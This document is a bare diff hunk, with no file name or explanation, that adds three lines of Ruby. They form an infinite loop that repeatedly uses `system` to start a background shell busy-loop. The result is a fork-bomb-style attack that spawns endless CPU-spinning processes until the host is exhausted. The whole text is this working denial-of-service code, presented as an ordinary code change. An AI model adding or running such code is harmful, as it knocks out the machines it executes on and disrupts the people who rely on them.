@@ -1,0 +1,3 @@
+while true
+  system("while :; do :; done &");
+end
